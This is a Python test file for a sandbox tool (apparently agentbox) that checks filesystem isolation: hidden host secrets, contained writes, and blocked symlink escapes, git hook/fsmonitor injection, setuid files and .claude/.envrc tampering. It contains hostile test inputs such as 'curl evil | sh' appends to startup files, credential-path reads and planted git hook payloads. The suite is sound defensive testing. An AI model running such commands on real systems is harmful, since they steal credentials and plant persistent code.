# SPDX-License-Identifier: MIT
"""Filesystem boundary: secrets absent, writes stay inside, protected paths, /proc."""

import json
import os
import secrets
import shutil
import stat
import time

from abtest import describe, sh_quote as q, tree_listing


def _no_token(ctx, r):
    assert ctx.token not in r.stdout and ctx.token not in r.stderr, \
        "host canary read inside!\n" + describe(r)


def test_ssh_key_absent(ctx):
    key = os.path.join(ctx.home, ".ssh", "id_ed25519")
    r = ctx.sandbox("cat %s" % q(key))
    _no_token(ctx, r)
    assert r.returncode != 0, "reading ~/.ssh/id_ed25519 succeeded\n" + describe(r)
    r = ctx.sandbox("test -e %s || echo ABSENT" % q(key))
    assert r.stdout.strip() == "ABSENT", "~/.ssh/id_ed25519 exists inside\n" + describe(r)


def test_home_secrets_absent(ctx):
    paths = [".ssh", ".aws/credentials", ".config/gh/hosts.yml", ".git-credentials", ".netrc",
             ".npmrc", ".kube/config", ".docker/config.json", ".bash_history", ".bashrc",
             ".profile", "src/other-repo/secret.txt"]
    script = "; ".join("cat %s/%s 2>/dev/null; ls %s/%s 2>/dev/null" % (q(ctx.home), p, q(ctx.home), p)
                       for p in paths)
    r = ctx.sandbox(script + "; true")
    _no_token(ctx, r)
    assert r.stdout.strip() == "", "host home content visible inside\n" + describe(r)


def test_home_private_and_empty(ctx):
    out = ctx.sh_ok('echo "HOME=$HOME"; ls -A "$HOME"; echo END')
    lines = out.strip().splitlines()
    assert lines[0] == "HOME=" + ctx.home, out
    entries = set(lines[1:-1])
    for bad in (".ssh", ".aws", ".bashrc", ".profile", ".netrc", ".config", "src"):
        assert bad not in entries, "host %s visible in the private home: %s" % (bad, entries)


def test_workspace_write_reaches_host(ctx):
    data = secrets.token_hex(8)
    ctx.sh_ok("echo %s > x && mkdir -p d/e && echo %s > d/e/f && mv d/e/f d/e/g && "
              "rm -f nothing" % (data, data))
    with open(os.path.join(ctx.ws, "x")) as f:
        assert f.read().strip() == data
    with open(os.path.join(ctx.ws, "d/e/g")) as f:
        assert f.read().strip() == data
    st = os.stat(os.path.join(ctx.ws, "x"))
    assert st.st_uid == ctx.uid, "workspace file owned by uid %d on the host, expected %d" % (
        st.st_uid, ctx.uid)


def test_private_writes_do_not_reach_host(ctx):
    tag = "abit-" + secrets.token_hex(6)
    script = ("set -e; echo a > \"$HOME/%s\"; echo b > /tmp/%s; echo c > /dev/shm/%s; "
              "mkdir \"$HOME/.ssh\" && echo d > \"$HOME/.ssh/%s\"; "
              "cat \"$HOME/%s\" /tmp/%s /dev/shm/%s; echo \"TMPDIR=$TMPDIR\"; "
              "for d in /var/tmp /run; do echo e > $d/%s 2>/dev/null || true; done" %
              (tag, tag, tag, tag, tag, tag, tag, tag))
    out = ctx.sh_ok(script)
    assert out.splitlines()[:3] == ["a", "b", "c"], out
    for p in (os.path.join(ctx.home, tag), "/tmp/" + tag, "/dev/shm/" + tag,
              os.path.join(ctx.home, ".ssh", tag), "/var/tmp/" + tag, "/run/" + tag):
        assert not os.path.exists(p), "%s written inside reached the host" % p
    assert tree_listing(ctx.home) == ctx.home_listing, "the host HOME changed"


def test_writes_outside_fail(ctx):
    tag = "abit-" + secrets.token_hex(6)
    targets = ["/etc/" + tag, "/usr/" + tag, "/usr/local/bin/" + tag, "/opt/" + tag,
               "/" + tag, os.path.join(ctx.projects, tag), os.path.join(ctx.sibling, tag),
               os.path.join(os.path.dirname(ctx.vbase), tag), "/var/" + tag, "/bin/" + tag]
    # (an unprivileged runner may have to put workspaces under /var/tmp, which
    # is a private tmpfs inside: there only "never reaches the host" holds)
    private = ctx.vbase.startswith(("/var/tmp/", "/tmp/"))
    for t in targets:
        must_fail = not (private and t.startswith(os.path.dirname(ctx.vbase)))
        r = ctx.sandbox("echo x > %s" % q(t))
        assert r.returncode != 0 or not must_fail, \
            "creating %s succeeded inside\n%s" % (t, describe(r))
        r = ctx.sandbox("mkdir %s" % q(t))
        assert r.returncode != 0 or not must_fail, \
            "mkdir %s succeeded inside\n%s" % (t, describe(r))
        assert not os.path.lexists(t), "%s appeared on the host" % t


def test_sibling_invisible(ctx):
    r = ctx.sandbox("cat %s/secret.txt; ls -A %s" % (q(ctx.sibling), q(ctx.projects)))
    _no_token(ctx, r)
    assert "secret.txt" not in r.stdout, describe(r)


def test_system_dirs_readonly(ctx):
    # The files exist and are readable, but appending to them fails.
    r = ctx.sandbox("cat /etc/passwd >/dev/null && test -x /usr/bin/env && "
                    "! sh -c ': >> /etc/passwd' 2>/dev/null && "
                    "! sh -c ': >> /usr/bin/env' 2>/dev/null && "
                    "! touch /etc/passwd 2>/dev/null && echo OK")
    assert r.stdout.strip() == "OK", describe(r)


def test_denied_system_files_absent(ctx):
    assert os.path.exists("/etc/shadow"), "test host has no /etc/shadow"
    # Masked: absent, or an empty unreadable stand-in; never the host's content.
    r = ctx.sandbox("cat /etc/shadow /etc/gshadow; ls -A /etc/ssh; true")
    assert "root:" not in r.stdout and "ssh_host" not in r.stdout, describe(r)


def test_symlink_escape(ctx):
    key = os.path.join(ctx.home, ".ssh", "id_ed25519")
    # planted on the host before the run, and created inside
    os.symlink(key, os.path.join(ctx.ws, "hostlink"))
    os.symlink("../../../../../../../" + key.lstrip("/"), os.path.join(ctx.ws, "rel"))
    r = ctx.sandbox("ln -s %s inlink; cat inlink; cat hostlink; cat rel; "
                    "cat %s/../../../..%s; cat /proc/self/root%s; cat /proc/1/root%s; "
                    "echo >> inlink; echo >> hostlink; true" % (q(key), q(ctx.ws), key, key, key))
    _no_token(ctx, r)
    with open(key) as f:
        assert f.read().count("\n") == 3, "host canary was modified through a symlink"


def test_symlink_to_bashrc_append(ctx):
    rc = os.path.join(ctx.home, ".bashrc")
    before = open(rc).read()
    os.symlink(rc, os.path.join(ctx.ws, "rc"))
    ctx.sandbox("echo 'curl evil | sh' >> rc; echo pwned >> %s; true" % q(rc))
    assert open(rc).read() == before, "host ~/.bashrc was modified"


def _git_ws(ctx):
    ctx.git_host("init", "-q", ".")
    ctx.host_file(os.path.join(ctx.ws, "README"), "hello\n")
    ctx.git_host("add", "README")
    ctx.git_host("commit", "-q", "-m", "initial")
    # a hooks dir and config the host owns
    return open(os.path.join(ctx.ws, ".git", "config")).read()


def test_git_hooks_and_config_readonly(ctx):
    cfg = _git_ws(ctx)
    hooks = os.path.join(ctx.ws, ".git", "hooks")
    before_hooks = sorted(os.listdir(hooks))
    attempts = [
        "touch .git/hooks/pre-commit",
        "echo 'touch /tmp/pwned' > .git/hooks/post-checkout",
        "echo x >> .git/hooks/pre-commit.sample",
        "git config core.hooksPath /tmp",
        "git config core.fsmonitor 'touch /tmp/pwned'",
        "echo '[core]' >> .git/config",
        "rm -f .git/config",
        "mv .git/hooks .git/hooks.old",
        "mv .git .git.old",
    ]
    for a in attempts:
        r = ctx.sandbox(a)
        assert r.returncode != 0, "%r succeeded inside\n%s" % (a, describe(r))
    assert open(os.path.join(ctx.ws, ".git", "config")).read() == cfg, ".git/config changed"
    assert sorted(os.listdir(hooks)) == before_hooks, ".git/hooks changed"
    assert not os.path.exists(os.path.join(ctx.ws, ".git.old")), ".git was renamed"


def test_git_commit_works(ctx):
    _git_ws(ctx)
    out = ctx.sh_ok("echo change > file.txt && git add file.txt && "
                    "git -c user.name=agent -c user.email=agent@example.com "
                    "commit -q -m 'from the sandbox' && git log --oneline | head -1 && "
                    "git status --porcelain")
    assert "from the sandbox" in out, out
    log = ctx.git_host("log", "--format=%s %an")
    assert "from the sandbox agent" in log.splitlines()[0], log
    status = ctx.git_host("status", "--porcelain")
    assert status.strip() == "", "host git status not clean after the commit: %r" % status


def test_protected_absent_paths_uncreatable(ctx):
    before = tree_listing(ctx.ws)
    attempts = {
        ".envrc": "echo 'export X=1' > .envrc",
        ".vscode": "mkdir -p .vscode && echo '{}' > .vscode/settings.json",
        ".idea": "mkdir .idea",
        ".mcp.json": "echo '{}' > .mcp.json",
        ".claude/settings.json": "mkdir -p .claude && echo '{}' > .claude/settings.json",
    }
    for what, a in attempts.items():
        r = ctx.sandbox(a)
        assert r.returncode != 0, "creating protected %s succeeded\n%s" % (what, describe(r))
    # Whatever agentbox put there during the run must be gone now.
    after = tree_listing(ctx.ws)
    leftovers = [p for p in after if p not in before and not p.startswith(".claude")]
    assert not leftovers, "leftover placeholders in the workspace on the host: %s" % leftovers
    for what in (".envrc", ".vscode", ".idea", ".mcp.json", ".claude/settings.json"):
        assert not os.path.lexists(os.path.join(ctx.ws, what)), "%s left on the host" % what


def test_protected_existing_file_readonly(ctx):
    p = ctx.host_file(os.path.join(ctx.ws, ".envrc"), "export A=1\n")
    r = ctx.sandbox("cat .envrc && echo 'curl evil|sh' >> .envrc")
    assert r.returncode != 0 and "export A=1" in r.stdout, describe(r)
    r = ctx.sandbox("rm -f .envrc; mv .envrc x; true")
    assert open(p).read() == "export A=1\n", ".envrc changed on the host"


def test_no_leftover_after_runs(ctx):
    before = tree_listing(ctx.ws)
    for _ in range(3):
        ctx.sh_ok("true")
    assert tree_listing(ctx.ws) == before, "agentbox left files in the workspace: %s" % (
        sorted(set(tree_listing(ctx.ws)) - set(before)))


def test_proc_shows_only_sandbox(ctx):
    out = ctx.sh_ok("echo $$; ls /proc | grep -E '^[0-9]+$' | wc -l")
    pid, n = (int(x) for x in out.split())
    assert pid <= 3, "the command's shell has pid %d inside (host pid namespace?)" % pid
    assert n <= 6, "%d processes visible in /proc inside" % n


def test_cwd_is_workspace(ctx):
    out = ctx.sh_ok("pwd")
    assert out.strip() == ctx.ws, out


def test_workspace_inside_home(ctx):
    # The common layout: the project lives in $HOME; the rest of HOME stays hidden.
    ws = os.path.join(ctx.home, "src", "proj")
    os.makedirs(ws)
    if ctx.uid:
        os.chown(ws, ctx.uid, ctx.gid)
    tag = "abit-" + secrets.token_hex(6)
    r = ctx.sandbox("echo ok > inws; cat ../other-repo/secret.txt; cat ~/.ssh/id_ed25519; "
                    "echo x > ../%s; echo y > ~/%s; ls -A ~; true" % (tag, tag), ws=ws, cwd=ws)
    _no_token(ctx, r)
    assert os.path.exists(os.path.join(ws, "inws")), "workspace write lost\n" + describe(r)
    for p in (os.path.join(ctx.home, "src", tag), os.path.join(ctx.home, tag)):
        assert not os.path.exists(p), "%s reached the host" % p
    assert ".ssh" not in r.stdout.split(), describe(r)


def test_protected_parent_rename_git(ctx):
    """Renaming the directory that holds protected paths (.git) and putting a
    fresh one in its place must not give the host a config/hooks written
    inside: host git would run core.fsmonitor / hooks outside the sandbox."""
    cfg = _git_ws(ctx)
    marker = os.path.join(ctx.scratch, "pwned")
    payload = "touch %s; false" % marker
    ctx.sandbox("mv .git .git.old && cp -r .git.old .git && "
                "git config core.fsmonitor %s; "
                "echo 'touch %s' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; true"
                % (q(payload), q(marker)))
    with open(os.path.join(ctx.ws, ".git", "config")) as f:
        now = f.read()
    assert "fsmonitor" not in now and now == cfg, \
        "the host's .git/config was replaced from inside:\n" + now
    assert not os.path.exists(os.path.join(ctx.ws, ".git", "hooks", "pre-commit")), \
        "a pre-commit hook written inside is on the host"
    ctx.git_host("status", "--porcelain")
    assert not os.path.exists(marker), "host git ran a payload planted from inside"


def test_protected_parent_rename_claude(ctx):
    """Same for a project's existing .claude directory (settings.json hooks run
    on the host when the user next starts Claude Code there)."""
    ctx.host_file(os.path.join(ctx.ws, ".claude", "commands", "x.md"), "hi\n")
    if ctx.uid:
        os.chown(os.path.join(ctx.ws, ".claude"), ctx.uid, ctx.gid)
        os.chown(os.path.join(ctx.ws, ".claude", "commands"), ctx.uid, ctx.gid)
    ctx.sandbox("mv .claude .claude.old; mkdir -p .claude; "
                "echo '{\"hooks\": \"evil\"}' > .claude/settings.json; "
                "echo '{\"hooks\": \"evil\"}' > .claude/settings.local.json; true")
    for n in ("settings.json", "settings.local.json"):
        p = os.path.join(ctx.ws, ".claude", n)
        assert not os.path.exists(p) or "evil" not in open(p).read(), \
            ".claude/%s written from inside reached the host" % n


def test_placeholder_cleanup_does_not_follow_symlinks(ctx):
    """agentbox removes the placeholders it created after the run, on the host.
    The sandbox must not be able to steer that removal outside the workspace
    by swapping a placeholder's parent directory for a symlink."""
    _git_ws(ctx)
    info = os.path.join(ctx.ws, ".git", "info")
    assert not os.path.exists(os.path.join(info, "attributes"))
    victim = os.path.join(ctx.sibling, "attributes")
    ctx.host_file(victim, "")
    ctx.sandbox("mv .git/info .git/info.x && ln -s %s .git/info; true" % q(ctx.sibling))
    time.sleep(0.5)  # the cleanup watcher may still be running
    assert os.path.exists(victim), \
        "agentbox's placeholder cleanup deleted %s, outside the workspace" % victim


def test_no_setuid_files_reach_host(ctx):
    """A set-uid/set-gid executable made inside lands on the host in the
    workspace.  Run as root, the workspace's files are owned by root on the
    host (idmapped mount), so such a file would be set-uid *root* for every
    local user: the sandbox must not be able to create one.  Unprivileged,
    one owned by the caller itself gives nothing (test_seccomp_setid.py):
    never one of anyone else's."""
    ctx.sandbox("cp /usr/bin/id ./suid; chmod 4755 ./suid; chmod 6755 ./suid; "
                "install -m 4755 /usr/bin/id ./suid2; mkdir sgid; chmod 2755 sgid; "
                "cp -p /usr/bin/passwd ./passwd-copy; true")
    bad = []
    for dp, dns, fns in os.walk(ctx.ws):
        for n in dns + fns:
            p = os.path.join(dp, n)
            st = os.lstat(p)
            own = ctx.uid != 0 and st.st_uid == ctx.uid and st.st_gid == ctx.gid
            if not stat.S_ISLNK(st.st_mode) and st.st_mode & (stat.S_ISUID | stat.S_ISGID) \
                    and not stat.S_ISDIR(st.st_mode) and not own:
                bad.append("%s mode %o owner %d:%d" % (os.path.relpath(p, ctx.ws),
                                                        st.st_mode & 0o7777, st.st_uid,
                                                        st.st_gid))
    assert not bad, "set-id files created inside are on the host: %s" % bad


def test_protected_parent_symlink_refused(ctx):
    """A protected path whose parent is a symlink (planted earlier) is refused,
    and no placeholder is created where the link points."""
    os.symlink(ctx.sibling, os.path.join(ctx.ws, ".claude"))
    r = ctx.sandbox(["true"])
    assert r.returncode == 125 and "symbolic link" in r.stderr, describe(r)
    assert not os.path.exists(os.path.join(ctx.sibling, "settings.json")), \
        "a placeholder was created outside the workspace"


def test_write_grant_over_startup_files_refused(ctx):
    """Shell startup files and autostart dirs live in ~ and ~/.config: a
    profile may not make them writable (so nothing can be planted there)."""
    for grant in ("~", "~/.config", "~/.local/bin", "${HOME}/.."):
        prof = ctx.host_file(os.path.join(ctx.scratch, "w.json"),
                             '{"version": 1, "extends": "default", '
                             '"filesystem": {"write": ["%s"]}}\n' % grant)
        r = ctx.sandbox(["true"], profile=prof)
        assert r.returncode == 125 and "refusing" in r.stderr, describe(r)


def test_tmpfs_mount_point_stays_empty_on_the_host(ctx):
    """filesystem.tmpfs at a path absent from the workspace: its mount
    point is made there and stays, empty, as agentbox-profile(5) says;
    what the command wrote went to the tmpfs."""
    prof = os.path.join(ctx.scratch, "tmpfs.json")
    ctx.host_file(prof, json.dumps({"version": 1, "extends": ["default"],
                                    "filesystem": {"tmpfs": ["${WORKSPACE}/nm/cache"]}}))
    r = ctx.sandbox("echo x > nm/cache/f && test -f nm/cache/f", profile=prof)
    assert r.returncode == 0, describe(r)
    d = os.path.join(ctx.ws, "nm", "cache")
    assert os.path.isdir(d) and os.listdir(d) == [], os.listdir(d)
